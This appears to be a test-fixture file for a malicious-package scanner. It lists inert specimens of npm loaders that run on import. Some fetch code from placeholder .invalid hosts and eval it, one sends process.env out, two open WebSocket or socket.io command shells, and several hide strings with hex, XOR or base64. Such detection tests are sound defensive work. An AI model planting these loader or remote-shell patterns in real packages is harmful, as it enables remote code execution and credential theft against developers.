import { base64, hex, manifest } from '../manifest.ts';
import type { Specimen } from '../specimen.ts';

const from = 'code that is fetched or decoded and run when the package is imported (BeaverTail, rand-user-agent, is)';
const WORD = 'globalThis.INERT = 1;';

export const specimens: readonly Specimen[] = [
  {
    name: 'loader-axios-then-eval',
    from,
    files: {
      'package.json': manifest({ dependencies: { axios: '1.7.0' } }),
      'index.js': `const axios = require('axios');
const { Logger } = require('./logger');
module.exports = (options) => new Logger(options);

(async () => {
  try {
    const { data } = await axios.get('https://api.npoint.invalid/INERT', { headers: { 'x-secret-key': '_' } });
    eval(data.cookie);
  } catch (error) {}
})();
`,
      'logger.js': 'exports.Logger = class Logger { info(text) { return text; } };\n',
    },
    expect: 'block',
    happens: { at: 'import', does: 'evaluates' },
  },
  {
    name: 'loader-error-handler',
    from,
    files: {
      'index.js': `const axios = require('axios');

const host = 'https://ip-check.invalid/api/INERT';
const verify = async () => {
  axios.post(host, { ...process.env }, { headers: { 'x-secret-header': 'secret' } })
    .then(() => null)
    .catch((err) => {
      const handler = new Function.constructor('require', err.response.data);
      handler(require);
    });
};

verify();
module.exports = { verify };
`,
    },
    expect: 'block',
  },
  {
    name: 'loader-module-compile',
    from,
    files: {
      'package.json': manifest({ main: 'lib/plugin.js' }),
      'lib/plugin.js': `const Module = require('module');
const https = require('https');

function load(source) {
  const m = new Module('remote', module.parent);
  m._compile(source, 'remote.js');
  return m.exports;
}

https.get({ hostname: 'cdn.stage.invalid', path: '/INERT.js' }, function (res) {
  let body = '';
  res.setEncoding('utf8');
  res.on('data', function (d) { body += d; });
  res.on('end', function () { load(body); });
});
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'evaluates' },
  },
  {
    name: 'loader-vm-context',
    from,
    files: {
      'package.json': manifest({ type: 'module', exports: './index.mjs' }),
      'index.mjs': `import vm from 'node:vm';
import { createRequire } from 'node:module';

const require = createRequire(import.meta.url);
const source = await (await fetch('https://json.keeper.invalid/b/INERT')).json();
vm.runInNewContext(source.content, { require, process, console });
export const format = value => String(value);
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'evaluates' },
  },
  {
    name: 'loader-hex-table',
    from,
    files: {
      'index.js': `const parts = ['${hex('https://')}', '${hex('log-server')}', '${hex('.invalid')}', '${hex('/api/INERT')}'];
const url = parts.map(part => Buffer.from(part, 'hex').toString('utf-8')).join('');
const g = (n) => require(Buffer.from(n, 'hex').toString());
g('${hex('axios')}').get(url).then(r => new (async () => {}).constructor('require', r.data.model)(require)).catch(() => {});
module.exports = function validate() { return true; };
`,
    },
    expect: 'warn',
  },
  {
    name: 'loader-xor-key',
    from,
    files: {
      'index.js': `const key = 23;
const bytes = [${[...WORD].map(letter => letter.charCodeAt(0) ^ 23).join(', ')}];
let code = '';
for (let i = 0; i < bytes.length; i++) code += String.fromCharCode(bytes[i] ^ key);
Function(code)();
exports.add = (a, b) => a + b;
`,
    },
    expect: 'warn',
    happens: { at: 'import', does: 'evaluates' },
  },
  {
    name: 'loader-websocket-rat',
    from,
    files: {
      'package.json': manifest({ dependencies: { ws: '8.18.0' } }),
      'index.js': `const WebSocket = require('ws');
const os = require('os');
const { exec } = require('child_process');

class Client {
  constructor(url) {
    this.url = url;
  }
  connect() {
    this.socket = new WebSocket(this.url);
    this.socket.on('open', () => this.socket.send(JSON.stringify({ host: os.hostname(), platform: os.platform() })));
    this.socket.on('message', raw => {
      const { command } = JSON.parse(raw);
      exec(command, (error, stdout) => this.socket.send(stdout));
    });
    this.socket.on('close', () => setTimeout(() => this.connect(), 10000));
  }
}

new Client('wss://c2.invalid/INERT').connect();
exports.isNumber = value => typeof value === 'number';
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'spawns' },
  },
  {
    name: 'loader-socket-io',
    from,
    files: {
      'package.json': manifest({ dependencies: { 'socket.io-client': '^4' } }),
      'index.js': `const { io } = require('socket.io-client');
const { execSync } = require('child_process');
const socket = io('http://192.0.2.80:3306', { reconnectionDelay: 5000 });
socket.on('command', (msg) => {
  if (msg.code === '100') {
    const out = execSync(msg.value, { encoding: 'utf8' });
    socket.emit('command', { code: msg.code, result: out });
  }
});
module.exports = () => 'Mozilla/5.0 INERT';
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'spawns' },
  },
  {
    name: 'loader-spawned-node-e',
    from,
    files: {
      'index.js': `const { spawn } = require('child_process');
const code = Buffer.from('${base64(WORD)}', 'base64').toString('utf8');
const child = spawn(process.execPath, ['-e', code], { detached: true, stdio: 'ignore', windowsHide: true });
child.unref();
module.exports = require('./lib');
`,
      'lib/index.js': 'exports.clamp = (v, a, b) => Math.min(Math.max(v, a), b);\n',
    },
    expect: 'warn',
    happens: { at: 'import', does: 'spawns' },
  },
  {
    name: 'loader-worker',
    from,
    files: {
      'package.json': manifest({ main: 'index.js', dependencies: { got: '11.8.6' } }),
      'index.js': `const { Worker } = require('worker_threads');
const path = require('path');
new Worker(path.join(__dirname, 'lib', 'pool.js'), { workerData: { id: 1 } });
exports.size = 4;
`,
      'lib/pool.js': `const got = require('got');
const { workerData } = require('worker_threads');
got('https://pool.invalid/INERT/' + workerData.id).text().then(text => {
  (0, eval)(text);
});
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'evaluates' },
  },
  {
    name: 'loader-written-then-required',
    from,
    files: {
      'index.js': `const fs = require('fs');
const os = require('os');
const path = require('path');
const request = require('request');

const file = path.join(os.tmpdir(), 'test-INERT.js');
request.get('http://203.0.113.20:1224/node/INERT', function (error, response, body) {
  if (error) return;
  fs.writeFileSync(file, body);
  require(file);
});
`,
    },
    expect: 'block',
  },
  {
    name: 'loader-dynamic-data-import',
    from,
    files: {
      'package.json': manifest({ type: 'module', main: 'index.js' }),
      'index.js': `const answer = await fetch('https://esm.stage.invalid/INERT.mjs');
const text = await answer.text();
await import('data:text/javascript;base64,' + Buffer.from(text).toString('base64'));
export default function sum(...numbers) { return numbers.reduce((a, b) => a + b, 0); }
`,
    },
    expect: 'block',
  },
];
